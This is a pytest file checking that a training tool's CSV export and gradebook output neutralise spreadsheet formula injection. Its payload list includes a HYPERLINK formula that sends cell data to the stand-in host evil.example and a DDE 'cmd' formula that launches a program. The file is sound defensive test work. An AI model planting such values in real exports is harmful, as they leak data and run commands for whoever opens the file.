"""CSV formula injection (issue 13, item 6): one writer neutralises every cell a spreadsheet would
run, for both ``trainer export --format csv`` and the gradebook of ``trainer grade``."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner

from trainer.cli import cli
from trainer.loader import load_paths
from trainer.progress.store import open_store
from trainer.scoring import score
from trainer.spreadsheet import FORMULA_STARTS, SafeCsvWriter, neutralise
from trainer.terminal import printable

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_text_cell_that_could_start_a_formula_gets_an_apostrophe(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


def test_other_cells_are_left_alone():
    assert [neutralise(c) for c in ("You felt alone.", "a=b", "", -5, 3.5, None)] == [
        "You felt alone.",
        "a=b",
        "",
        -5,
        3.5,
        None,
    ]


def test_the_writer_neutralises_every_cell_of_every_row():
    out = io.StringIO()
    SafeCsvWriter(out, lineterminator="\n").writerows([["=1", "ok"], [-1, "@x"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1", "ok"], ["-1", "'@x"]]


def test_export_csv_neutralises_response_client_session_and_scenario(scenario_dir):
    scenario = load_paths([scenario_dir]).get("lonely-birthday")
    with open_store() as store:
        for payload in PAYLOADS:
            store.record(payload, 1, payload, payload, score(scenario.turns[0], payload), payload)
    result = CliRunner().invoke(cli, ["export", "--format", "csv"])
    assert result.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    assert len(rows) == len(PAYLOADS)
    for row in rows:
        for column in ("scenario", "client", "response", "session"):
            assert row[column].startswith("'") and row[column][1:] in map(printable, PAYLOADS)  # on stdout


def test_the_gradebook_neutralises_a_student_name(tmp_path):
    for n, payload in enumerate(PAYLOADS):
        export = {
            "student": payload,
            "attempts": [{"scenario": "lonely-birthday", "turn": 1, "response": "You felt forgotten."}],
        }
        (tmp_path / f"{n}.json").write_text(json.dumps(export), encoding="utf-8")
    result = CliRunner().invoke(cli, ["grade", str(tmp_path)])
    assert result.exit_code == 0
    names = [row["student"] for row in csv.DictReader(io.StringIO(result.stdout))]
    assert len(names) == 2 * len(PAYLOADS)  # a scenario row and an overall row each; names are read
    # with their spaces tidied: "\t=1+1" is "=1+1"
    assert all(name.startswith("'") and name[1:].startswith(FORMULA_STARTS) for name in names)
